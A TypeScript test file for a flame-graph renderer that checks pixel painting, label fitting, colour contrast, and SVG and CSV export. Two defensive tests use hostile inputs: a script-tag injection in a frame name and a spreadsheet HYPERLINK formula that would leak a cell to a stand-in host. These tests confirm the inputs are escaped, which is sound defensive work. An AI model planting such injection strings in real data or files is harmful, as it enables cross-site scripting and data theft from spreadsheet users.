import assert from 'node:assert/strict';
import test from 'node:test';

import {hex, luminance, mixed, needsLightInk, paletteOf, type Theme} from '../colors';
import type {FrameName} from '../columns';
import {boxes, nodeAt, paint, rowTop, visibleDepths, type Look} from '../draw';
import {BottomUp, TopDown, type Graph} from '../graph';
import {fitted, Labels, percent, rowsText, stackText, visible} from '../labels';
import {Rows} from '../layout';
import {drawnBoxes, svgFile} from '../svg';
import {NONE, treeOf} from '../tree';
import {columnsOf, random, randomStacks, type Stack} from './model';

const NAMES: FrameName[] = [
  {function: 'root'},
  ...['a', 'b', 'c', 'd', 'e', 'f'].map((name, at) => ({function: name, module: `m${at % 3}`})),
];

function graphOf(seed: number, stacks = 120): Graph {
  return new TopDown(treeOf(columnsOf(randomStacks(random(seed), 7, stacks, 9), NAMES), 'function', 0));
}

function painted(graph: Graph, width: number, height: number, look: Look): Uint32Array {
  const rows = new Rows(graph);
  rows.ensure(look.range, (look.range.to - look.range.from) / width, visibleDepths(height, look).last + 1);
  const pixels = new Uint32Array(width * height);
  paint({pixels, width, height}, rows, look, paletteOf(graph, 'module', 'light'));
  return pixels;
}

test('each pixel shows the box at its centre', () => {
  for (let seed = 0; seed < 20; seed++) {
    const graph = graphOf(seed);
    const next = random(seed);
    const width = 50 + next(200);
    const [all, from] = [graph.width(0), next(graph.width(0) / 2)];
    const range = seed % 2 ? {from, to: from + 1 + next(all - from - 1)} : {from: 0, to: all};
    const orientation = seed % 3 ? 'icicle' : 'flame';
    const look: Look = {range, offset: next(30), rowHeight: 4 + next(10), orientation};
    const pixels = painted(graph, width, 70, look);
    const palette = paletteOf(graph, 'module', 'light');
    const rows = new Rows(graph);
    rows.ensure({from: 0, to: all}, 0, 100);
    let boxesSeen = 0;
    for (let y = 0; y < 70; y++) {
      for (let x = 0; x < width; x++) {
        const node = nodeAt(x, y, width, 70, rows, look);
        const color = pixels[y * width + x]!;
        if (color === palette.paper) continue;
        boxesSeen++;
        assert.ok(node !== undefined && node !== NONE);
        assert.equal(color, palette.box(node), `seed ${seed}, pixel ${x} ${y}`);
      }
    }
    assert.ok(boxesSeen > width, `${boxesSeen}`);
  }
});

test('boxes leave gaps of one pixel and no others', () => {
  const graph = graphOf(3);
  const look: Look = {range: {from: 0, to: graph.width(0)}, offset: 0, rowHeight: 10, orientation: 'icicle'};
  const pixels = painted(graph, 300, 20, look);
  const {paper} = paletteOf(graph, 'module', 'light');
  // The root's row: its box, then a gap at the right and below.
  for (let y = 0; y < 10; y++) {
    for (let x = 0; x < 300; x++) assert.equal(pixels[y * 300 + x] === paper, y === 9 || x === 299, `${x} ${y}`);
  }
});

test('a found box has a pixel, however narrow it is', () => {
  const names: FrameName[] = [{function: 'root'}, ...Array.from({length: 100_000}, (_, at) => ({function: `f${at}`}))];
  const stacks: Stack[] = Array.from({length: 100_000}, (_, at) => ({frames: [at + 1], amounts: [1, 1]}));
  const graph = new TopDown(treeOf(columnsOf(stacks, names), 'function', 0));
  const matches = new Uint8Array(names.length);
  matches[77_778] = 1;
  const look: Look = {range: {from: 0, to: 100_000}, offset: 0, rowHeight: 10, orientation: 'icicle', matches};
  const pixels = painted(graph, 1000, 20, look);
  const {match} = paletteOf(graph, 'module', 'light');
  const found = Array.from({length: 1000}, (_, x) => x).filter((x) => pixels[12 * 1000 + x] === match);
  assert.deepEqual(found, [777 + Number((77_777 % 100) >= 50)]);
});

test('listed boxes are those that are wide enough', () => {
  for (let seed = 0; seed < 30; seed++) {
    const graph = seed % 2 ? graphOf(seed, 400) : BottomUp.ofTree(graphOf(seed, 400).tree);
    const width = 200;
    const all = graph.width(0);
    const look: Look = {range: {from: all / 8, to: all}, offset: 0, rowHeight: 10, orientation: 'icicle'};
    const rows = new Rows(graph);
    rows.ensure(look.range, all / width, 100);
    for (const least of [1, 5, 40]) {
      const listed = [...boxes(width, 500, rows, look, least)].map(({node, y}) => `${node} ${y}`);
      const expected: string[] = [];
      const scale = width / (look.range.to - look.range.from);
      for (let depth = 0; depth < rows.length; depth++) {
        const row = rows.row(depth)!;
        for (let box = 0; box < row.length; box++) {
          const [x0, x1] = [Math.max(row.x0[box]!, look.range.from), row.x1[box]!];
          if ((x1 - x0) * scale >= least) expected.push(`${row.node[box]} ${depth * 10}`);
        }
      }
      assert.deepEqual(listed, expected, `seed ${seed}, ${least}`);
    }
  }
});

test('a flame is an icicle upside down', () => {
  const icicle: Look = {range: {from: 0, to: 1}, offset: 7, rowHeight: 10, orientation: 'icicle'};
  for (let depth = 0; depth < 5; depth++) {
    const top = rowTop(depth, 100, icicle);
    assert.equal(rowTop(depth, 100, {...icicle, orientation: 'flame'}), 100 - 10 - top);
  }
});

test('texts on boxes can be read', () => {
  const contrast = (a: number, b: number): number => (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
  const names: FrameName[] = [{function: 'root'}];
  for (let at = 0; at < 500; at++) names.push({function: `f${at}`, module: `m${at}`});
  const next = random(1);
  const stacks = names.slice(1).map((_, at) => ({frames: [at + 1], amounts: [1 + next(1000), 1 + next(1000)]}));
  const graph = new TopDown(treeOf(columnsOf(stacks, names, ['before', 'after']), 'function', [0, 1]));
  for (const theme of ['light', 'dark'] satisfies Theme[]) {
    for (const by of ['module', 'growth'] as const) {
      const palette = paletteOf(graph, by, theme, {before: 0, after: 1});
      for (let node = 0; node < graph.tree.name.length; node++) {
        const box = palette.box(node);
        for (const color of [box, palette.dim(box), palette.match]) {
          const ink = needsLightInk(color) ? 1 : 0;
          assert.ok(contrast(luminance(color), ink) >= 4.5, `${theme} ${by} ${hex(color)}`);
        }
      }
    }
  }
});

test('growth has a colour, a sign and no false alarm', () => {
  const stacks: Stack[] = [
    {frames: [1], amounts: [100, 300]},
    {frames: [2], amounts: [100, 50]},
    {frames: [3], amounts: [100, 100]},
    {frames: [4], amounts: [0, 90]},
  ];
  const graph = new TopDown(treeOf(columnsOf(stacks, NAMES, ['before', 'after']), 'function', [0, 1]));
  const palette = paletteOf(graph, 'growth', 'light', {before: 0, after: 1});
  const at = (name: number): number => graph.tree.name.indexOf(name);
  assert.deepEqual([1, 2, 3, 4].map((name) => palette.sign(at(name))), [1, -1, 0, 1]);
  assert.equal(hex(palette.box(at(4))), '#d55e00');
  assert.equal(graph.width(0), 300 + 100 + 100 + 90);
  // Stripes rise from left to right where it has grown, and fall where it has shrunk.
  const rows = new Rows(graph);
  const look: Look = {range: {from: 0, to: 590}, offset: 0, rowHeight: 20, orientation: 'icicle'};
  rows.ensure(look.range, 1, 2);
  const pixels = new Uint32Array(590 * 40);
  paint({pixels, width: 590, height: 40}, rows, look, palette);
  const striped = (y: number, from: number, to: number): number[] => {
    const row = [...pixels.subarray(y * 590 + from, y * 590 + to - 1)];
    return row.flatMap((color, x) => (color === row[0] && color === row[1] ? [] : [x])).slice(0, 200);
  };
  const dark = (y: number, x0: number): number | undefined => {
    const base = mixed(palette.box(x0 < 300 ? at(1) : at(2)), 0, 0);
    return striped(y, x0, x0 + 90).find((x) => pixels[y * 590 + x0 + x] !== base && x > 9);
  };
  const [first, second] = [dark(25, 20)!, dark(26, 20)!];
  assert.ok((first - second + 9) % 9 === 1, `${first} ${second}`);
  const [third, fourth] = [dark(25, 305)!, dark(26, 305)!];
  assert.ok((fourth - third + 9) % 9 === 1, `${third} ${fourth}`);
});

test('a picture as SVG has the boxes and no markup of names', () => {
  const hostile: FrameName[] = [{function: 'root'}, {function: '</title><script>x("&\u0001\ud800\u202e")</script>'}];
  const graph = new TopDown(treeOf(columnsOf([{frames: [1], amounts: [9, 1]}], hostile), 'function', 0));
  const rows = new Rows(graph);
  const look: Look = {range: {from: 0, to: 9}, offset: 0, rowHeight: 18, orientation: 'icicle'};
  rows.ensure(look.range, 0.01, 2);
  const labels = new Labels(graph);
  const palette = paletteOf(graph, 'module', 'light');
  const drawn = drawnBoxes(900, 36, rows, look, palette, labels, (node) => labels.text(node));
  assert.deepEqual(drawn.map(({x, y, width, height}) => [x, y, width, height]), [[0, 0, 899, 17], [0, 18, 899, 17]]);
  const file = svgFile(900, 36, '#ffffff', 'a & b', drawn);
  assert.equal(file.match(/<rect /g)!.length, 3);
  assert.ok(!/<script|[\u0001\ud800\u202e]/.test(file), file);
  assert.ok(file.includes('&lt;script&gt;x(&quot;&amp;\ufffd'), file);
});

test('texts are cut to what fits', () => {
  assert.equal(fitted('malloc', 6), 'malloc');
  assert.equal(fitted('malloc', 4), 'mal…');
  assert.equal(fitted('malloc', 2), '');
  assert.equal(visible('a\u202eb\nc'), 'a\ufffdb\ufffdc');
  assert.deepEqual([percent(1, 8), percent(1, 3000), percent(2, 0), percent(1, 50)], ['12.5 %', '0.033 %', '0 %', '2.00 %']);
});

test('rows and stacks are copied with exact amounts', () => {
  const names = [{function: 'root'}, {function: 'a "b", c', module: 'm', file: '/x/a.c', line: 3}, {function: 'd'}];
  const stacks: Stack[] = [
    {frames: [1, 2], amounts: [2 ** 52 + 1, 3]},
    {frames: [1], amounts: [5, 1]},
  ];
  const tree = treeOf(columnsOf(stacks, names), 'function', 0);
  const graph = new TopDown(tree);
  const labels = new Labels(graph);
  const rows = (as: 'text' | 'CSV' | 'JSON'): string => rowsText(graph, labels, [1, 2], ['bytes', 'blocks'], as);
  assert.equal(
    rows('CSV'),
    'depth,name,bytes,self bytes,blocks,self blocks\r\n' +
      '1,"a ""b"", c",4503599627370502,5,4,1\r\n2,d,4503599627370497,4503599627370497,3,3\r\n',
  );
  assert.deepEqual(JSON.parse(rows('JSON'))[1], {
    depth: 2, name: 'd', bytes: 2 ** 52 + 1, 'self bytes': 2 ** 52 + 1, blocks: 3, 'self blocks': 3,
  });
  assert.match(rows('text'), /^ *4503599627370502 +4    a "b", c\n/);
  assert.equal(stackText(graph, 2), 'a "b", c (m /x/a.c:3)\nd\n');
  const callers = BottomUp.ofTree(tree);
  assert.equal(stackText(callers, callers.firstChild(callers.firstChild(0))), 'a "b", c (m /x/a.c:3)\nd\n');
});

test('a name that a spreadsheet would take for a formula is text in CSV', () => {
  const names = [{function: ''}, {function: '=HYPERLINK("http://example.org/"&A1)'}, {function: '-x'}];
  const graph = new TopDown(treeOf(columnsOf([{frames: [1, 2], amounts: [8, 1]}], names), 'function', 0));
  const csv = rowsText(graph, new Labels(graph), [1, 2], ['bytes'], 'CSV');
  assert.equal(csv, `depth,name,bytes,self bytes\r\n1,"'=HYPERLINK(""http://example.org/""&A1)",8,0\r\n2,'-x,8,8\r\n`);
});
